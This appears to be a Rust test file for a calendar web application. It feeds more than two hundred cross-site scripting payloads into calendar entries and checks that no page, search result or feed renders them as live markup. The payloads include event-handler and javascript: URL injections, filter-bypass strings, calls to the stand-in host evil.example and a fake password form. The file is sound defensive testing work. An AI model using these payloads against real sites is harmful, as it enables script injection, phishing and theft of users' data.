//! Markup that strangers wrote in every text of a calendar, on every page and in every feed that shows it.

use super::{
    markup::{decoded, faults, tags},
    site_with,
};
use crate::support::program::Server;
use std::collections::BTreeSet;

/// Elements that act, and what they act by.
const ELEMENTS: &[&str] = &[
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "details open",
    "body",
    "input autofocus",
    "select autofocus",
    "marquee",
    "iframe src=/",
    "object data=x",
    "p tabindex=1 autofocus",
    "math",
    "a href=/ autofocus",
];
const HANDLERS: &[&str] = &[
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
];
/// Addresses that act or lead away, and what carries them.
const LINKS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://x/1",
    "file:///etc/passwd",
    "intent://x#Intent;end",
    "//evil.example/",
    "jav&#x0A;ascript:alert(1)",
];
const CARRIERS: &[&str] = &[
    "a href",
    "form action",
    "button formaction",
    "iframe src",
    "object data",
    "embed src",
    "base href",
];
/// The ways in which filters have been got round.
const OTHERS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/a.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<img src=//evil.example/pixel.png width=1>",
    "<form><input type=password name=p><button>Sign in</button></form>",
    "<dialog open class=card id=main>Your session ended</dialog>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
];

/// More than two hundred texts that want to be markup.
fn corpus() -> Vec<String> {
    let acting = ELEMENTS.iter().flat_map(|element| {
        HANDLERS
            .iter()
            .map(move |handler| format!("<{element} {handler}=alert(1)>"))
    });
    let leading = LINKS.iter().flat_map(|link| {
        CARRIERS
            .iter()
            .map(move |carrier| format!("<{carrier}=\"{link}\">x</a>"))
    });
    acting
        .chain(leading)
        .chain(OTHERS.iter().map(|text| (*text).to_owned()))
        .collect()
}

/// A text as a calendar writes it (RFC 5545 §3.3.11).
fn escaped(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace(';', "\\;")
        .replace(',', "\\,")
        .replace(['\r', '\n'], "\\n")
}

fn entries(corpus: &[String]) -> Vec<String> {
    corpus
        .chunks(10)
        .map(|texts| {
            let all = escaped(&texts.join(" "));
            let first = escaped(&texts[0]);
            let last = escaped(texts.last().expect("a text"));
            format!(
                "SUMMARY:{first}\r\nDESCRIPTION:{all}\r\nX-ALT-DESC;FMTTYPE=text/html:{all}\r\nLOCATION:{last}\r\n\
                 CATEGORIES:{last}\r\nURL:{first}\r\nATTACH:{last}\r\nCONFERENCE;VALUE=URI:{first}\r\n\
                 IMAGE;VALUE=URI:{last}\r\nORGANIZER;CN=\"x\":mailto:x@x.example\r\nCONTACT:{all}"
            )
        })
        .collect()
}

/// Every page that leads from the first one, and of search pages a few.
fn pages(server: &Server) -> BTreeSet<String> {
    let (mut seen, mut waiting) = (
        BTreeSet::new(),
        vec!["/".to_owned(), "/fr".to_owned(), "/@agenda".to_owned()],
    );
    while let Some(path) = waiting.pop() {
        let is_page = !path.contains("/feed/") && !path.contains("/export/");
        if seen.len() > 120 || !is_page || !seen.insert(path.clone()) {
            continue;
        }
        let answer = server.get(&path);
        let (tags, _) = tags(&answer.body);
        let links = tags
            .iter()
            .filter(|tag| tag.name == "a")
            .filter_map(|tag| tag.get("href"));
        let own = links.filter(|link| {
            ["/events/", "/tags/", "/address/", "/search"]
                .iter()
                .any(|begin| link.starts_with(begin))
        });
        waiting.extend(own.filter(|link| !link.contains("page=")).map(str::to_owned));
    }
    seen
}

#[test]
fn no_text_of_a_stranger_becomes_markup_on_any_page() {
    let corpus = corpus();
    assert!(corpus.len() >= 200);
    let (_site, server) = site_with(&entries(&corpus));
    let pages = pages(&server);
    let kinds = ["/events/", "/tags/", "/address/", "/search"];
    for kind in kinds {
        assert!(
            pages.iter().any(|path| path.starts_with(kind)),
            "no {kind} in {pages:?}"
        );
    }
    assert!(pages.iter().filter(|path| path.starts_with("/events/")).count() >= 20);
    for path in &pages {
        let answer = server.get(path);
        assert_eq!(answer.status, 200, "{path}");
        assert_eq!(faults(&answer.body, false), Vec::<String>::new(), "{path}");
    }
    for text in corpus.iter().step_by(7) {
        let path = format!("/search?q={}", encoded(text));
        assert_eq!(faults(&server.get(&path).body, false), Vec::<String>::new(), "{path}");
    }
}

#[test]
fn no_text_of_a_stranger_becomes_markup_in_feeds_and_documents() {
    let (_site, server) = site_with(&entries(&corpus()));
    let json = server.get("/feed/instance/json").json();
    let items = json["items"].as_array().expect("items");
    assert!(items.len() >= 20);
    for item in items {
        let html = item["content_html"].as_str().unwrap_or_default();
        assert_eq!(faults(html, true), Vec::<String>::new(), "{item}");
        let path = item["url"]
            .as_str()
            .expect("an address")
            .replace("http://localhost:8080", "");
        let note = crate::support::http::get(server.address, &path, &["Accept: application/activity+json"]).json();
        let html = note["content"].as_str().expect("a text");
        assert_eq!(faults(html, true), Vec::<String>::new(), "{path}");
        let name = note["name"].as_str().expect("a name");
        assert!(!name.contains(|c: char| c.is_control()), "{name}");
    }
}

#[test]
fn no_text_of_a_stranger_becomes_markup_in_xml() {
    let (_site, server) = site_with(&entries(&corpus()));
    for feed in ["atom", "rss"] {
        let answer = server.get(&format!("/feed/instance/{feed}"));
        let (xml, mut htmls) = without_cdata(&answer.body);
        let known = [
            "feed",
            "rss",
            "channel",
            "entry",
            "item",
            "id",
            "guid",
            "title",
            "link",
            "atom:link",
            "updated",
            "published",
            "pubdate",
            "summary",
            "content",
            "content:encoded",
            "description",
            "category",
            "author",
            "name",
            "uri",
            "generator",
            "rights",
            "subtitle",
            "language",
            "lastbuilddate",
            "managingeditor",
            "dc:creator",
            "dc:date",
            "docs",
            "ttl",
            "email",
            "icon",
            "logo",
            "enclosure",
        ];
        for element in tags(&xml).0 {
            assert!(known.contains(&element.name.as_str()), "{feed}: <{}>", element.name);
        }
        // Unpacked once, it is the HTML that a reader shows.
        let contents = xml.split("<content").skip(1);
        htmls.extend(contents.filter_map(|text| Some(decoded(text.split_once('>')?.1.split("</").next()?))));
        assert!(htmls.len() >= 20, "{feed}");
        for html in htmls {
            assert_eq!(faults(&html, true), Vec::<String>::new(), "{feed}: {html:.200}");
        }
    }
}

/// XML without its sections of text, and those.
fn without_cdata(xml: &str) -> (String, Vec<String>) {
    let mut parts = xml.split("<![CDATA[");
    let (mut rest, mut texts) = (parts.next().unwrap_or_default().to_owned(), Vec::new());
    for part in parts {
        let (text, after) = part.split_once("]]>").expect("an end");
        texts.push(text.to_owned());
        rest.push_str(after);
    }
    (rest, texts)
}

/// Every byte percent-encoded.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}
